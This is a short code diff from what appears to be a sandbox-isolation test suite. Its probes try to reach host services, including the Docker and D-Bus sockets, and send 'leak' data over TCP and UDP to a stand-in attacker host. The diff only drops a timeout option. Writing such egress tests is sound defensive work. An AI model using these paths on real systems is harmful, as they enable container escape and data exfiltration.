@@ -11,7 +11,7 @@ const leak = Buffer.from("leak-by-datagram");
 const path = (name: string) => `/v1/${way}/${name}`;
 
 function connects(host: string, port: number): Promise<Outcome> {
-  return tcp({ host, port }, "leak-by-tcp\r\n", { patience: 1_500 });
+  return tcp({ host, port }, "leak-by-tcp\r\n");
 }
 
 await runProbes({
@@ -36,9 +36,9 @@ await runProbes({
   "host-any": () => connects("0.0.0.0", HOST_SERVICE_PORT),
   "host-address": () => connects("192.0.2.2", HOST_SERVICE_PORT),
   "host-gateway": () => connects("192.0.2.1", HOST_SERVICE_PORT),
-  "host-abstract": () => tcp({ path: "\0bot-bottle-host-service" }, "leak\n", { patience: 1_500 }),
-  "host-dbus": () => tcp({ path: "/run/dbus/system_bus_socket" }, "leak\n", { patience: 1_500 }),
-  "host-docker": () => tcp({ path: "/var/run/docker.sock" }, "leak\n", { patience: 1_500 }),
+  "host-abstract": () => tcp({ path: "\0bot-bottle-host-service" }, "leak\n"),
+  "host-dbus": () => tcp({ path: "/run/dbus/system_bus_socket" }, "leak\n"),
+  "host-docker": () => tcp({ path: "/var/run/docker.sock" }, "leak\n"),
   "udp-443": () => udp(EVIL, 443, leak),
   "udp-443-v6": () => udp(EVIL6, 443, leak),
   "udp-123": () => udp(EVIL, 123, leak),
